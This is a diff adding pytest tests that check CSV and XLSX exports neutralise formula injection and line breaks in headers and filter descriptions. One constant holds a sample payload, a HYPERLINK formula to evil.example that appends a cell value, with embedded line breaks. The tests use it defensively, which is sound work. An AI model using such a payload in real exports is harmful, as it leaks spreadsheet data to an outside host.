@@ -67,3 +67,32 @@ def test_xlsx_neutralises_and_keeps_numbers():
     assert [c.value for c in sheet["B"]][1:] == [-1.5, 2.25, -3, 4, None]
     about = {r[0].value: r[1].value for r in book["About"].iter_rows()}
     assert about["filters"] == "'=evil()" and "exported" in about
+
+
+HOSTILE_FILTER = "x\n=HYPERLINK(\"http://evil.example/\"&A3)\r\n+1+1"
+
+
+@pytest.mark.parametrize("german", [False, True])
+def test_a_line_break_in_the_description_never_starts_a_line_of_its_own(german):
+    frame = pd.DataFrame({"name\n=1+1": [" \n=2+2"], "n": [3]})
+    text = to_csv(frame, {"filters": f"journey={HOSTILE_FILTER}", "view\n=1": "/"},
+                  german=german).decode("utf-8-sig")
+    sep = ";" if german else ","
+    rows = list(csv.reader(io.StringIO(text), delimiter=sep))
+    for row in rows:
+        for cell in row:
+            assert not cell.lstrip(" \n\r\t").startswith(("=", "+", "@")), row
+    description = [line for line in text.split("\n") if line.startswith("#")]
+    assert any("HYPERLINK" in line and line.startswith("# filters: journey=x") for line in
+               description)
+    table = [row for row in rows if row and not row[0].startswith("#")]
+    assert len(table) == 2  # the header and one row (a quoted cell keeps its line break)
+
+
+def test_xlsx_description_and_headers_have_no_formula_and_no_line_break():
+    frame = pd.DataFrame({"=1+1": [" =3+3"]})
+    book = load_workbook(io.BytesIO(to_xlsx({"Data": frame}, {"filters": HOSTILE_FILTER})))
+    assert book["Data"]["A1"].value == "'=1+1" and book["Data"]["A2"].value == "' =3+3"
+    about = {row[0]: row[1] for row in book["About"].iter_rows(values_only=True)}
+    assert "\n" not in about["filters"] and "\r" not in about["filters"]
+    assert all(cell.data_type != "f" for row in book["About"].iter_rows() for cell in row)
